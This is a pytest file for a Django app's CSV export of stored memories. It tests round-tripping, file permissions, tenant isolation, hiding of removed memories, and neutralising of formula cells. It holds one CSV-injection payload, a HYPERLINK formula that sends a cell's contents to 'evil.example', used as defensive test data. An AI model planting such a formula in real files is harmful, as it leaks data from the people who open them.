"""The CSV of memories: complete, nothing in it is calculated, and nothing hidden is in it."""

from __future__ import annotations

import csv
import re
import stat
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from django.core.management import CommandError, call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext

from engram.console.transfer import spreadsheet
from engram.console.transfer.spreadsheet import defused, write_csv
from engram.kernel.tenancy import in_workspace
from memories.models import Memory
from tests.conftest import NOW, Tenant

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def read(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file, strict=True))


def commit(tenant: Tenant, content: str, **fields: Any) -> str:
    body = {"content": content, "observed_at": NOW.isoformat(), **fields}
    memory: str = tenant.agent.post("memories", body).json()["memory"]["id"]
    return memory


def later() -> Any:
    return NOW + timedelta(days=3650)


def test_memories_are_read_back_as_they_are(tenant: Tenant, tmp_path: Path) -> None:
    odd = 'He said "no", and left;\r\n=1+1\nnaïve 🙂 \u2028 end'
    commit(tenant, odd, tags=["b, c", "a"], scope="x/y", source="https://example.com/?a=1,2")
    commit(tenant, "The kiln is blue.")
    path = tmp_path / "memories.csv"
    assert write_csv(tenant.workspace, path, now=later()) == 2
    first, second = read(path)
    assert first["content"] == odd
    assert (first["tags"], first["scope"]) == ("a; b, c", "x/y")
    assert first["observed_at"] == NOW.isoformat()
    assert second["expires_at"] == ""
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert raw.endswith(b'"\r\n')
    assert stat.S_IMODE(path.stat().st_mode) == 0o600


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝"])
def test_no_cell_is_calculated(start: str) -> None:
    assert defused(f"{start}1+1") == f"'{start}1+1"
    assert defused(f"a{start}1") == f"a{start}1"


def test_no_cell_of_a_file_is_calculated_even_at_another_separator(
    tenant: Tenant, tmp_path: Path
) -> None:
    fields = {"agent": "@SUM(A1)", "session_key": "-1+1", "source": "+1", "tags": ["=2"]}
    commit(tenant, FORMULA, **fields)
    commit(tenant, f"Prices;{FORMULA}")
    path = tmp_path / "memories.csv"
    write_csv(tenant.workspace, path, now=later())
    rows = read(path)
    cells = [cell for row in rows for cell in row.values()]
    assert f"'{FORMULA}" in cells
    assert {"'@SUM(A1)", "'-1+1", "'+1", "'=2"} <= set(cells)
    assert not [cell for cell in cells if cell.startswith(spreadsheet.FORMULA_STARTS)]
    lines = path.read_text(encoding="utf-8-sig").split("\r\n")
    assert all(re.fullmatch(r'("([^"]|"")*",)*"([^"]|"")*"', line) for line in lines[:-1])


def test_nothing_hidden_is_in_the_file(tenant: Tenant, neighbour: Tenant, tmp_path: Path) -> None:
    kept = commit(tenant, "The kiln is blue.")
    gone = [commit(tenant, f"The word is {word}.") for word in ("quartz", "zircon", "topaz")]
    commit(neighbour, "The word is beryl.")
    with in_workspace(tenant.workspace):
        Memory.objects.filter(pk=gone[1]).update(retired_at=NOW)
        Memory.objects.filter(pk=gone[2]).update(expires_at=NOW + timedelta(days=1))
    tenant.admin.post("memories/forget", {"ids": gone[:1], "confirm": True})
    path = tmp_path / "memories.csv"
    assert write_csv(tenant.workspace, path, now=later()) == 1
    assert [row["id"] for row in read(path)] == [kept]
    assert not re.search(r"quartz|zircon|topaz|beryl", path.read_text())


def test_statements_grow_with_reads_not_with_memories(tenant: Tenant, tmp_path: Path) -> None:
    counts = []
    for more in (1, 20):
        for number in range(more):
            commit(tenant, f"Shelf {more}-{number} holds pot {number}.", tags=["pot"])
        with CaptureQueriesContext(connection) as queries:
            write_csv(tenant.workspace, tmp_path / f"{more}.csv", now=later())
        counts.append(len(queries))
    assert counts[0] == counts[1]


def test_command_writes_one_workspace(
    tenant: Tenant, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    commit(tenant, "The kiln is blue.")
    path = str(tmp_path / "memories.csv")
    call_command("export", "--csv", path, "--workspace", "acme")
    assert capsys.readouterr().out == f"1 memories of acme written to {path}.\n"
    with pytest.raises(CommandError, match="exists; nothing was written"):
        call_command("export", "--csv", path, "--workspace", "acme")
    with pytest.raises(CommandError, match="--workspace is needed"):
        call_command("export", "--csv", f"{path}2")
    with pytest.raises(CommandError, match="No such file"):
        call_command("export", "--csv", str(tmp_path / "no" / "x.csv"), "--workspace", "acme")
